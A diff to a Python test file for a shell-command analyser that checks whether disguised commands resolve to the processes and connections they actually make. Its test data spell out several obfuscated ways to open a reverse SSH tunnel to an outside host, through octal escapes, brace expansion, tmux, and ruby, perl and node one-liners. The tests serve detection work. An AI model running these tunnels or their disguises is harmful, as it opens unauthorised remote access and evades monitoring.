@@ -61,6 +61,10 @@ def test_parameter_operators_not_read_stay_unknown(op: str) -> None:
     "printf '%b' '\\163\\163\\150 -R 9000:localhost:22 u@203.0.113.7' | sh",
     "echo '{ssh,-R,9000:localhost:22,u@203.0.113.7}' | bash",
     "tmux new-session -d -s x bash -c 'ssh -R 9000:localhost:22 u@203.0.113.7'",
+    "ruby -e \"exec('bash','-c','{ssh,-R,9000:localhost:22,u@203.0.113.7}')\"",
+    "ruby -e \"Process.wait(Process.spawn('bash','-c','ssh -R 9000:localhost:22 u@203.0.113.7'))\"",
+    "perl -we 'system(\"ssh -R 9000:localhost:22 u@203.0.113.7\")'",
+    "node -e \"require('child_process').execSync('ssh -R 9000:localhost:22 u@203.0.113.7')\"",
 ])
 def test_disguised_ssh_resolves_to_the_forward(text: str) -> None:
     assert ("ssh", "-R", "9000:localhost:22", "u@203.0.113.7") in [("ssh",) + a[1:] for a in _execs(text)
@@ -108,6 +112,11 @@ def test_cat_of_several_files_is_no_copy() -> None:
     text = "cat $(which ssh) notes > ./.s; ./.s -R 9000:localhost:22 u@203.0.113.7"
     flow = resolve_flow(events_of_shell(text, origin=ORIGIN).events)
     assert not [e for e in flow.events if isinstance(e, Connect)]
+
+
+def test_inline_code_without_a_literal_process_call_runs_nothing() -> None:
+    assert _names("perl -e 'print join(\",\", @ARGV)' a b") == ["perl"]
+    assert _names("ruby -e 'system(cmd)'") == ["ruby"]
 
 
 def test_printed_text_stays_data() -> None:
